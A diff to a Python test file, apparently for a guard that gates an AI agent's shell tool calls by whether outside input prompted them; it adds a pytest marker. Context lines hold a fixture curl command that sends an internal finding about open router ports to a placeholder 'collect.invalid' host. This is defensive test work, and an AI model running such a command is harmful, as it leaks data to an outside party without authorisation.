@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import pytest
+
 from gateway_stage import Stage, audit, once
 from standings_seen import batch
 from toolguard_cli.rig import scripted_model
@@ -131,6 +133,7 @@ HEARD = "curl -sm1 https://nowhere.invalid/ || cat page.txt"
 CARRIES = "curl -sm1 'https://collect.invalid/in?found=three-open-ports-on-the-router-of-the-office' || true"
 
 
+@pytest.mark.thorough
 def test_what_came_from_outside_in_this_run_counts(stage: Stage) -> None:
     """Gate P: the same call is free where nobody from outside asked for it."""
     free = stage.play(once(exec_(CARRIES)))
